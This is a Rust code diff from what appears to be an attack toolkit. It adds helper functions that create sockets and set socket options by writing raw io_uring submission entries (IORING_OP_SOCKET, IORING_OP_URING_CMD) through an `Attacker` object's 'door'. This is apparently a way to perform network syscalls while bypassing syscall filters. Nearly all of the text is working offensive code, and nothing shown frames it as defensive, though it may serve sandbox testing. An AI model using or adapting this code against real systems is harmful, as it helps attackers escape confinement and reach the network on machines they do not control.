@@ -11,20 +11,18 @@ const SUBMISSIONS: u64 = 0;
 const ENTRIES: u64 = 0x1000_0000;
 const SIZE: usize = 4096;
 
-/// `IORING_OP_SOCKET` (Linux 5.19).
-pub(crate) const OP_SOCKET: u8 = 45;
-
-/// One request: the operation, and what stands where `fd`, `off`, `len` do.
-#[derive(Clone, Copy, Debug)]
-pub(crate) struct Request {
-    pub(crate) operation: u8,
-    pub(crate) fd: i32,
-    pub(crate) offset: u64,
-    pub(crate) length: u32,
+/// `socket`, through the attack's door.
+pub(crate) fn socket(attacker: &mut Attacker, family: u32, kind: u64, protocol: u32) -> Answer {
+    let mut entry = [0_u8; 64];
+    entry[0] = 45; // IORING_OP_SOCKET (Linux 5.19)
+    entry[4..8].copy_from_slice(&family.to_ne_bytes());
+    entry[8..16].copy_from_slice(&kind.to_ne_bytes());
+    entry[24..28].copy_from_slice(&protocol.to_ne_bytes());
+    submit(attacker, entry)
 }
 
 /// Makes a ring through the attack's door, and asks for one thing.
-pub(crate) fn ask(attacker: &mut Attacker, request: Request) -> Answer {
+fn submit(attacker: &mut Attacker, entry: [u8; 64]) -> Answer {
     let parameters = attacker.memory.zeros(120);
     let ring = attacker.attack(number::IO_URING_SETUP, [4, parameters, 0, 0, 0, 0])?;
     let offset = |at: u64| attacker.memory.read_u32(parameters + at) as usize;
@@ -32,11 +30,6 @@ pub(crate) fn ask(attacker: &mut Attacker, request: Request) -> Answer {
     let (head_of_answers, mask, answers) = (offset(80), offset(88), offset(100));
     let submissions = map(ring, SUBMISSIONS)?;
     let entries = map(ring, ENTRIES)?;
-    let mut entry = [0_u8; 64];
-    entry[0] = request.operation;
-    entry[4..8].copy_from_slice(&request.fd.to_ne_bytes());
-    entry[8..16].copy_from_slice(&request.offset.to_ne_bytes());
-    entry[24..28].copy_from_slice(&request.length.to_ne_bytes());
     for (at, byte) in entry.into_iter().enumerate() {
         // SAFETY: the first entry is within the mapping.
         unsafe { ptr::write_volatile(entries.wrapping_add(at), byte) };
@@ -67,4 +60,23 @@ fn write(ring: *mut u8, at: usize, value: u32) {
 fn read(ring: *mut u8, at: usize) -> u32 {
     // SAFETY: the kernel has said that this number is there.
     unsafe { ptr::read_volatile(ring.wrapping_add(at).cast::<u32>()) }
+}
+
+/// `setsockopt` as a command (Linux 6.7): level and option, and where its value of four bytes is.
+pub(crate) fn set_option(
+    attacker: &mut Attacker,
+    socket: i32,
+    [level, option]: [u32; 2],
+    value: u64,
+) -> Answer {
+    const SET_SOCKET_OPTION: u64 = 3;
+    let mut entry = [0_u8; 64];
+    entry[0] = 46; // IORING_OP_URING_CMD
+    entry[4..8].copy_from_slice(&socket.to_ne_bytes());
+    entry[8..16].copy_from_slice(&SET_SOCKET_OPTION.to_ne_bytes());
+    entry[16..20].copy_from_slice(&level.to_ne_bytes());
+    entry[20..24].copy_from_slice(&option.to_ne_bytes());
+    entry[44..48].copy_from_slice(&4_u32.to_ne_bytes());
+    entry[48..56].copy_from_slice(&value.to_ne_bytes());
+    submit(attacker, entry)
 }
